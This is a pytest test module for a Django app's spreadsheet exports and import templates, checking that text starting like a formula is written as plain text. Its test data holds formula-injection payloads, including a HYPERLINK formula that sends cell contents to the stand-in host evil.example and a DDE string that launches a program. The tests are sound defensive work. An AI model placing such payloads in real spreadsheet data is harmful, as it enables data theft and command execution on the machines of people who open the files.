"""Spreadsheet exports: a text that starts like a formula (=, +, -, @, tab, CR) comes out as
text, never as a formula a spreadsheet would run; numbers stay numbers. One test per export
that is not covered beside its own module (the status report and the data export are tested in
tests/backbone/)."""

from __future__ import annotations

import csv
import datetime
import io
import re
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from alliance.models import Role
from backbone.spreadsheet import looks_like_formula, neutralise
from initiatives.models import ActivityLog, ActivityStatus, GoalStrength, PartnerRole
from initiatives.services import activity_save
from measurement.importing import import_file, template_csv, template_rows, template_xlsx
from tests.factories import (
    AllianceFactory,
    FocusAreaFactory,
    GoalFactory,
    MembershipFactory,
    OrganisationFactory,
    WorkGroupFactory,
)
from tests.measurement.factories import reporting_world

LINK = '=HYPERLINK("https://evil.example/?d="&A1,"Klik her")'
HOSTILE = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _formulas(xlsx: bytes) -> list[str]:
    """Every formula element in the workbook's sheets: what a spreadsheet would run."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return [
            match
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for match in re.findall(r"<f[ >].*?</f>", archive.read(name).decode())
        ]


def test_the_rule_itself():
    assert all(looks_like_formula(text) for text in HOSTILE)
    assert neutralise(LINK) == "'" + LINK
    assert neutralise("Skolen") == "Skolen"


def test_the_csv_import_template_writes_formula_like_text_as_text():
    # given names typed by people (an indicator, an organisation) that start like a formula
    rows = [["AU1", text, "2025", "Skolen", "", "", "", "", "", "", ""] for text in HOSTILE]
    rows.append(["AU2", "Aktive unge", "2025", LINK, "Køn", "Piger", "", "", "", "", ""])
    # when the template is written as CSV
    content = template_csv(rows).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(content, newline=""), delimiter=";"))
    # then each such cell starts with an apostrophe, and plain text is untouched
    assert [line[1] for line in lines[1:-1]] == ["'" + text for text in HOSTILE]
    assert lines[-1][3] == "'" + LINK
    assert lines[-1][:3] == ["AU2", "Aktive unge", "2025"]
    assert not any(looks_like_formula(cell) for line in lines for cell in line)


@pytest.mark.django_db
def test_a_csv_template_with_a_formula_like_name_imports_back():
    # given an organisation whose name starts like a formula
    world = reporting_world()
    world["school"].name = "-Skolen"
    world["school"].save(update_fields=["name"])
    rows = template_rows(
        indicators=[world["count"]], membership=world["membership"], today=datetime.date(2026, 5, 1)
    )
    lines = template_csv(rows).decode("utf-8-sig").splitlines()
    assert lines[1].startswith("AU1;Aktive unge;2025;'-Skolen;")
    # when the template is filled in and imported
    filled = [lines[0]] + [line[: line.rfind(";;;;;")] + ";5;;;;" for line in lines[1:]]
    upload = SimpleUploadedFile("tal.csv", "\r\n".join(filled).encode("utf-8-sig"))
    membership = world["membership"]
    result = import_file(upload=upload, membership=membership, user=membership.user, submit=True)
    # then the name is read back without the apostrophe
    assert result.errors == []
    assert result.created == 3


def test_the_xlsx_import_template_writes_formula_like_text_as_text():
    rows = [["AU1", LINK, "2025", "@Skolen", "", "", "", "", "", "", ""]]

    content = template_xlsx(rows, organisations=[LINK, "-Klubben"], indicators=[])

    # the only formulas are none: the choice lists are data validations, not cells
    assert _formulas(content) == []
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    figures = workbook.worksheets[0]
    assert figures["B2"].value == LINK
    assert figures["B2"].data_type == "s"
    assert figures["D2"].value == "@Skolen"
    lists = [cell.value for row in workbook.worksheets[-1].iter_rows() for cell in row]
    assert LINK in lists
    assert "-Klubben" in lists


@pytest.mark.django_db
def test_the_reinforcement_map_export_writes_formula_like_text_as_text(client):
    # given a goal, an activity and a partner whose names start like formulas
    alliance = AllianceFactory()
    area = FocusAreaFactory(alliance=alliance, title="+Trivsel")
    goal = GoalFactory(alliance=alliance, focus_area=area, title=LINK)
    group = WorkGroupFactory(alliance=alliance, name="@Gruppe")
    partner = OrganisationFactory(alliance=alliance, name="-Klubben")
    author = MembershipFactory(alliance=alliance, role=Role.SECRETARIAT).user
    activity = activity_save(
        alliance=alliance,
        user=author,
        group=group,
        title="=1+1",
        status=ActivityStatus.RUNNING,
        goals={goal: GoalStrength.MAIN},
        partners={partner: PartnerRole.LEAD},
    )
    ActivityLog.objects.create(
        activity=activity,
        held_on=timezone.localdate(),
        participants_new=4,
        participants_returning=3,
    )
    client.force_login(MembershipFactory(alliance=alliance, role=Role.STEERING).user)

    # when the map is exported
    response = client.get(
        reverse("initiatives:map_export", kwargs={"alliance_slug": alliance.slug})
    )

    # then there is no formula in it, the texts read as typed, and the figures are numbers
    assert response.status_code == 200
    assert _formulas(response.content) == []
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    matrix, partners = workbook.worksheets[0], workbook.worksheets[1]
    header = [cell.value for cell in matrix[1]]
    assert "=1+1 (@Gruppe)" in header
    row = [cell for cell in matrix[2]]
    assert row[0].value == "+Trivsel"
    assert row[1].value == LINK
    assert row[1].data_type == "s"
    assert (row[2].value, row[3].value) == (1, 7)
    assert row[2].data_type == "n"
    assert partners["A2"].value == "-Klubben"
    assert partners["B1"].value == LINK
